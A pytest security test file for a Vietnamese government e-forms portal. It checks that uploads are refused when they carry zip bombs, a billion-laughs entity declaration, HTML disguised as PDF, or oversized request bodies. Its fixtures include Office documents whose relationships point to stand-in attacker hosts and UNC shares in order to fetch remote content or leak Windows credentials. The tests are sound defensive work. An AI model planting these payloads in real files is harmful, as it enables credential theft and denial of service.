"""Uploads that cost the portal or its readers: zip bombs and active content
in Office files, HTML posing as PDF, unlimited drafts and uploads, and
request bodies larger than anything a form accepts."""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import tracemalloc
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone

from eforms.models import Attachment, Dossier
from eforms.uploads import UploadRules, check_file, store
from tests import wsgi
from tests.dossier_factories import make_procedure, pdf_bytes, upload, xlsx_bytes
from tests.eform_factories import citizen, make_eform

RULES = UploadRules(allowed_types=("pdf", "jpeg", "png", "docx", "xlsx"), max_file_size=10 * 1024 * 1024,
                    max_files=5)
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CONTENT_TYPES = (
    f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT_NS}">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/>{{extra}}</Types>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Đơn đề nghị</w:t></w:r></w:p>{padding}</w:body>'
    "</w:document>"
)


def rels(*relationships: tuple[str, str, str]) -> str:
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{R}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if mode else "") + "/>"
        for n, (kind, target, mode) in enumerate(relationships, start=10)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">{items}</Relationships>'


def docx(parts: dict[str, str | bytes] | None = None, *, content_types: str | None = None,
         padding: str = "") -> bytes:
    """A Word document as Word lays it out, with extra parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", content_types or CONTENT_TYPES.format(extra=""))
        package.writestr("_rels/.rels", rels(("officeDocument", "word/document.xml", "")))
        package.writestr("word/document.xml", DOCUMENT.format(padding=padding))
        parts = {"word/_rels/document.xml.rels": rels(("styles", "styles.xml", ""))} | (parts or {})
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


# ---------------------------------------------------------------- 8a: zip bombs


def bomb(declared: int) -> bytes:
    """A DOCX whose [Content_Types].xml unpacks to `declared` bytes of
    blanks: a few hundred kilobytes on the wire. Written as a stream, so
    building it costs the test no memory either."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        head = CONTENT_TYPES.format(extra="").encode()
        with package.open("[Content_Types].xml", "w") as member:
            member.write(head[:-len("</Types>")])
            block = b" " * (1024 * 1024)
            for _ in range(declared // len(block)):
                member.write(block)
            member.write(b"</Types>")
        package.writestr("_rels/.rels", rels(("officeDocument", "word/document.xml", "")))
        package.writestr("word/document.xml", DOCUMENT.format(padding=""))
    return out.getvalue()


@pytest.fixture(scope="module")
def content_types_bomb():
    return bomb(240 * 1024 * 1024)


def test_finding_08a_declared_huge_member_is_refused_without_inflating_it(content_types_bomb):
    assert len(content_types_bomb) < 2 * 1024 * 1024
    tracemalloc.start()
    try:
        with pytest.raises(ValidationError) as error:
            check_file(upload("to-khai.docx", content_types_bomb), RULES)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert error.value.code == "unpacked_size"
    assert "to-khai.docx" in error.value.messages[0]
    assert peak < 8 * 1024 * 1024, f"checking a {len(content_types_bomb)} byte upload peaked at {peak} bytes"


def test_finding_08a_member_compressed_beyond_the_ratio_is_refused(settings):
    settings.PORTAL_UPLOAD_OOXML_MAX_RATIO = 100
    # 8 MB of blanks in the document: far under the size cap, but 1000:1.
    content = docx(padding=" " * (8 * 1024 * 1024))
    assert len(content) < 100_000
    with pytest.raises(ValidationError) as error:
        check_file(upload("don.docx", content), RULES)
    assert error.value.code == "unpacked_size"


def test_finding_08a_sum_of_declared_sizes_is_capped(settings):
    settings.PORTAL_UPLOAD_OOXML_MAX_UNCOMPRESSED = 3 * 1024 * 1024
    settings.PORTAL_UPLOAD_OOXML_MAX_RATIO = 0  # only the sum counts here
    noise = {f"word/media/image{n}.bin": os.urandom(1024 * 1024) for n in range(4)}
    with pytest.raises(ValidationError) as error:
        check_file(upload("don.docx", docx(noise)), RULES)
    assert error.value.code == "unpacked_size"


def test_finding_08a_entity_declarations_are_refused():
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
        ']>' + CONTENT_TYPES.format(extra="<!-- &b; -->").split("?>", 1)[1]
    )
    with pytest.raises(ValidationError) as error:
        check_file(upload("don.docx", docx(content_types=laughs)), RULES)
    assert error.value.code == "type"


def test_ordinary_office_files_still_pass():
    assert check_file(upload("don.docx", docx()), RULES).kind == "docx"
    assert check_file(upload("bang.xlsx", xlsx_bytes()), RULES).kind == "xlsx"


# ---------------------------------------------------------------- 8b: active content


@pytest.mark.parametrize(
    "parts",
    [
        # a template fetched from a share on opening (leaks the reader's Windows credentials)
        {"word/_rels/settings.xml.rels": rels(("attachedTemplate", "\\\\attacker\\share\\t.dotm", "External"))},
        {"word/_rels/settings.xml.rels": rels(("attachedTemplate", "file://attacker/share/t.dotm", "External"))},
        {"word/_rels/document.xml.rels": rels(("oleObject", "https://attacker.example/x.sct", "External"))},
        {"word/_rels/document.xml.rels": rels(("frame", "https://attacker.example/", "External"))},
        {"word/_rels/document.xml.rels": rels(("image", "\\\\attacker\\share\\pixel.png", "External"))},
        # a hyperlink, but not to a web or mail address
        {"word/_rels/document.xml.rels": rels(("hyperlink", "file:///\\\\attacker\\share\\run.exe", "External"))},
        {"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"},
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504},
        {"word/_rels/document.xml.rels": rels(("oleObject", "embeddings/x.bin", ""))},
    ],
    ids=["template-unc", "template-file-share", "ole-external", "frame", "linked-image", "hyperlink-unc",
         "activex", "embedded-ole", "ole-relationship"],
)
def test_finding_08b_active_content_in_docx_is_refused(parts):
    with pytest.raises(ValidationError) as error:
        check_file(upload("don.docx", docx(parts)), RULES)
    assert error.value.code == "active_content"
    assert "don.docx" in error.value.messages[0] and "PDF" in error.value.messages[0]


def test_finding_08b_active_content_declared_in_content_types_is_refused():
    extra = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    with pytest.raises(ValidationError) as error:
        check_file(upload("don.docx", docx(content_types=CONTENT_TYPES.format(extra=extra))), RULES)
    assert error.value.code == "active_content"


def test_finding_08b_external_link_in_xlsx_is_refused():
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes())) as source, zipfile.ZipFile(content, "w") as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr("xl/externalLinks/_rels/externalLink1.xml.rels",
                        rels(("externalLinkPath", "\\\\attacker\\share\\book.xlsx", "External")))
    with pytest.raises(ValidationError) as error:
        check_file(upload("bang.xlsx", content.getvalue()), RULES)
    assert error.value.code == "active_content"


@pytest.mark.parametrize(("language", "words"), [
    ("en", ("embedded objects", "outside files", "as PDF")),
    ("vi", ("đối tượng nhúng", "tệp bên ngoài", "PDF")),
])
def test_finding_08b_message_says_what_to_do(language, words):
    from django.utils import translation

    parts = {"word/embeddings/oleObject1.bin": b"\x00" * 64}
    with translation.override(language), pytest.raises(ValidationError) as error:
        check_file(upload("don.docx", docx(parts)), RULES)
    message = error.value.messages[0]
    assert all(word in message for word in words), message


def test_hyperlinks_and_a_template_on_the_authors_drive_are_accepted():
    parts = {
        "word/_rels/document.xml.rels": rels(("styles", "styles.xml", ""),
                                             ("hyperlink", "https://dichvucong.gov.vn/", "External"),
                                             ("hyperlink", "mailto:motcua@example.vn", "External")),
        "word/_rels/settings.xml.rels": rels(("attachedTemplate", "file:///C:\\Users\\An\\Mau don.dotx",
                                              "External")),
    }
    assert check_file(upload("don.docx", docx(parts)), RULES).kind == "docx"


# ---------------------------------------------------------------- 8c: PDF header


def test_finding_08c_html_with_a_pdf_header_further_in_is_refused():
    prefix = b"<html><!--"  # the PDF header at offset 10, the rest a sound PDF
    body = pdf_bytes()
    body = re.sub(rb"startxref\n(\d+)", lambda m: b"startxref\n%d" % (int(m.group(1)) + len(prefix)), body)
    polyglot = prefix + body
    with pytest.raises(ValidationError) as error:
        check_file(upload("giay-to.pdf", polyglot), RULES)
    assert error.value.code == "type"
    assert check_file(upload("giay-to.pdf", pdf_bytes()), RULES).kind == "pdf"


# ---------------------------------------------------------------- 10: drafts, quota, request size

CODE = "1.001193"
APPLICANT = {
    "applying_as": "self", "full_name": "Nguyễn Văn An", "date_of_birth": "1990-05-17", "id_number": "001090012345",
    "phone": "0912 345 678", "email": "an@example.com", "address_0": "66", "address_1": "24133",
    "address_2": "12 Lê Duẩn",
}
ANSWERS = {"muc_dich_yeu_cau": "Xin việc", "noi_dung_chi_tiet": "Bổ sung hồ sơ xin việc"}


@pytest.fixture
def applicant(db, client):
    procedure = make_procedure(CODE)
    make_eform(procedure, translate=False)
    user = citizen("an", id_number="001090012345")
    client.force_login(user)
    return user


def documents_step(client) -> str:
    """A new draft with its first two steps done: the URL of the documents step."""
    response = client.post(f"/p/{CODE}/apply/", {})
    assert response.status_code == 302
    s1 = client.post(response["Location"], APPLICANT)["Location"]
    return client.post(s1, ANSWERS)["Location"]


def test_finding_10_open_drafts_are_capped_per_procedure(client, applicant, settings):
    settings.PORTAL_MAX_OPEN_DRAFTS_PER_PROCEDURE = 2
    for _ in range(2):
        assert client.post(f"/p/{CODE}/apply/", {}).status_code == 302
    response = client.post(f"/p/{CODE}/apply/", {}, HTTP_ACCEPT_LANGUAGE="vi")
    assert response.status_code == 200
    assert Dossier.objects.filter(applicant=applicant).count() == 2
    html = response.content.decode()
    assert 'role="alert"' in html and "2" in html
    for draft in Dossier.objects.filter(applicant=applicant):
        assert str(draft.public_id) in html  # each open draft is offered to continue


def test_a_draft_at_the_limit_can_be_discarded_to_start_again(client, applicant, settings):
    settings.PORTAL_MAX_OPEN_DRAFTS_PER_PROCEDURE = 1
    step = documents_step(client)
    client.post(step, {"ban_sao_can_cuoc": upload("a.pdf", pdf_bytes())})
    draft = Dossier.objects.get(applicant=applicant)
    path = Attachment.objects.get(dossier=draft).file.path
    other = citizen("binh")
    assert client.post(f"/p/{CODE}/apply/", {"discard": "not-a-uuid"}).status_code == 302
    client.force_login(other)
    client.post(f"/p/{CODE}/apply/", {"discard": str(draft.public_id)})  # not theirs: nothing happens
    assert Dossier.objects.filter(pk=draft.pk).exists()
    client.force_login(applicant)
    client.post(f"/p/{CODE}/apply/", {"discard": str(draft.public_id)})
    assert not Dossier.objects.filter(pk=draft.pk).exists()
    assert not os.path.exists(path)
    assert client.post(f"/p/{CODE}/apply/", {}).status_code == 302


def test_finding_10_daily_upload_quota(client, applicant, settings):
    content = pdf_bytes()
    settings.PORTAL_UPLOAD_DAILY_QUOTA_BYTES = 2 * len(content) - 1
    yesterday = store(check_file(upload("cu.pdf", content), RULES, "x"), uploaded_by=applicant)
    Attachment.objects.filter(pk=yesterday.pk).update(created_at=timezone.now() - dt.timedelta(days=1))
    step = documents_step(client)
    response = client.post(step, {"ban_sao_can_cuoc": upload("a.pdf", content)})
    assert response.status_code == 302
    response = client.post(step, {"giay_to_khac": upload("b.pdf", content)})
    assert response.status_code == 200
    html = response.content.decode()
    assert "b.pdf" in html and "a.pdf" in html  # refused, and the earlier file is still attached
    draft = Dossier.objects.get(applicant=applicant)
    assert list(draft.attachments.values_list("original_name", flat=True)) == ["a.pdf"]
    assert draft.form_data["answers"]["noi_dung_chi_tiet"] == ANSWERS["noi_dung_chi_tiet"]
    from eforms.uploads import daily_quota_left

    assert daily_quota_left(applicant) == len(content) - 1  # yesterday's file does not count


class ExplodingInput:
    """A request body that must never be read."""

    read_called = False

    def read(self, *args):
        type(self).read_called = True
        raise AssertionError("the request body was read")

    readline = read


def call_wsgi(client, path: str, **environ) -> tuple[str, str]:
    """The whole middleware stack, as gunicorn calls it, signed in and with
    a valid CSRF token (so the old stack would parse the body)."""
    client.get("/")  # a session cookie
    secret = "a" * 32
    cookies = f"{client.cookies['sessionid'].key}={client.cookies['sessionid'].value}; csrftoken={secret}"
    base = wsgi.environ(
        path, "POST", **{"wsgi.input": ExplodingInput(), "CONTENT_TYPE": "multipart/form-data; boundary=xyz",
                         "HTTP_COOKIE": cookies, "HTTP_X_CSRFTOKEN": secret, "HTTP_ACCEPT_LANGUAGE": "vi"},
    )
    base.update(environ)
    status, _headers, body, _response = wsgi.call(base)
    return status, body.decode()


def test_finding_10_oversized_content_length_is_refused_before_reading(client, applicant, settings):
    settings.PORTAL_UPLOAD_MAX_DOSSIER_SIZE = 50 * 1024 * 1024
    step = documents_step(client)
    ExplodingInput.read_called = False
    status, html = call_wsgi(client, step, CONTENT_LENGTH=str(10 * 1024 * 1024 * 1024))
    assert not ExplodingInput.read_called
    assert status.startswith("413")
    assert "<h1" in html and 'lang="vi"' in html
    assert f'href="{step}"' in html  # back to the same step, where the draft is kept
    assert Dossier.objects.get(applicant=applicant).form_data["done"] == ["applicant", "s1"]


def test_finding_10_chunked_body_without_length_is_refused(client, applicant):
    step = documents_step(client)
    ExplodingInput.read_called = False
    status, _html = call_wsgi(client, step, HTTP_TRANSFER_ENCODING="chunked")
    assert not ExplodingInput.read_called
    assert status.startswith("411")


def test_a_body_within_the_limit_goes_through(client, applicant):
    step = documents_step(client)
    response = client.post(step, {"ban_sao_can_cuoc": upload("a.pdf", pdf_bytes())})
    assert response.status_code == 302


def test_ooxml_limits_are_settings(settings):
    from eforms import ooxml

    settings.PORTAL_UPLOAD_OOXML_MAX_UNCOMPRESSED = 10
    assert ooxml.inspect(io.BytesIO(docx())) == ooxml.TOO_BIG
